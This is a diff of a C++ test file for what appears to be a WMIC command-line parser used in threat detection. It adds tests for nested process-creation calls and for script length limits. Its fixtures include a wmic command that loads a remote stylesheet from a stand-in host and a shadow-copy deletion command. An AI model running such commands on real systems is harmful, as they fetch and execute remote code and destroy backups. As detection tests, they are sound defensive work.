@@ -23,7 +23,7 @@ TEST(Payload, StyleSheetsRunWhereWmicRuns) {
   constexpr const char* kLine = R"(wmic /node:SRV os get /format:"https://a.example/x")";
   std::vector<Payload> out;
   add_payloads(parse_wmic(kLine), kLine, true, out);
-  ASSERT_EQ(out.size(), 2u);
+  ASSERT_EQ(out.size(), 1u) << "what is listed is the pretext";
   EXPECT_EQ(out[0].act, payload_act::kStyleSheet);
   EXPECT_EQ(out[0].target, "local");
   EXPECT_EQ(out[0].url, "https://a.example/x");
@@ -42,6 +42,29 @@ TEST(Payload, ChildrenAreDecodedAndTheirCallsRead) {
   add_child("cmd /c wmic shadowcopy delete", "", false, wmic);
   ASSERT_EQ(wmic.size(), 2u);
   EXPECT_EQ(wmic[1].method, "Delete");
+}
+
+TEST(Payload, CallsThatStartCallsAreReadToADepth) {
+  std::string line;
+  for (int i = 0; i < 40; ++i) line += "wmic process call create ";
+  line += "whoami";
+  std::vector<Payload> out;
+  add_child(line, "", false, out);
+  EXPECT_EQ(out.size(), 5u);
+  std::vector<Payload> created;
+  constexpr const char* kLine = R"(wmic process call create "cmd /c wmic os get a & wmic qfe")";
+  add_payloads(parse_wmic(kLine), kLine, false, created);
+  ASSERT_EQ(created.size(), 3u);
+  EXPECT_EQ(created[2].class_name, "Win32_QuickFixEngineering");
+}
+
+TEST(Payload, WordsOfALongScriptSayNothing) {
+  std::vector<Payload> out;
+  add_script_words("gwmi x; 'VMware'", out);
+  EXPECT_EQ(out.size(), 1u);
+  add_script_words(std::string(kLongestActScript + 1, 'x'), out);
+  add_script_words("", out);
+  EXPECT_EQ(out.size(), 1u);
 }
 
 TEST(Payload, TriggersCarryNothing) {
